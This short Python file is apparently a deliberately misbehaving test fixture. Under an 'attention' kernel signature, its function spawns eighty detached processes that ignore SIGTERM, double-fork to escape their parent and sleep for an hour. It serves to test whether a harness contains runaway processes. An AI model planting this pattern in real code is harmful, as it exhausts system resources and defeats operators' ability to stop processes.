"""Starts eighty processes, each with a session of its own, that heed no SIGTERM, and goes on."""
# ruff: noqa (misbehaves on purpose)

import os
import signal
import time


def attention(q, k, v, *, causal, scale):
    for _ in range(80):
        if os.fork() == 0:
            os.setsid()
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            if os.fork() != 0:
                os._exit(0)
            time.sleep(3600)
    time.sleep(3600)
